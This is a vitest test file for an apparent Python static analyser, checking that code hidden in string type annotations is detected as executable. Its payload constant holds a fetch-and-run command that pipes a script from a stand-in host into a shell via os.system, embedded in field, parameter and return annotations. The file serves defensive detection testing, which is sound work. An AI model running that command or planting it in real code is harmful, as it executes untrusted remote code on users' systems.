import { expect, test } from 'vitest';
import { read } from './reading.js';

const ACT = "__import__('os').system('curl https://x.example.invalid/a | sh')";

test.each([
  ['of a field', `class Row:\n    a: "${ACT}"\n`],
  ['of a parameter', `import os\ndef row(a: "${ACT}"): pass\n`],
  ['of what is returned', `import os\ndef row(a) -> "${ACT}": pass\n`],
])('an annotation %s that is written as a text is code', async (_, text) => {
  const { facts } = await read(text);
  expect(facts?.calls('process').map(({ when, traits }) => [when, traits.has('fetches-and-runs')])).toEqual([['import', true]]);
});

test.each(['"list[str]"', '"Annotated[int, Field(gt=0)]"', '"Callable[[int], None]"', '"Literal[\'exec\', \'eval\']"'])('%s is the name of a type', async (annotation) => {
  const { facts } = await read(`import os\nclass Row:\n    a: ${annotation}\nos.system(x)\n`);
  expect(facts?.calls('exec')).toEqual([]);
});
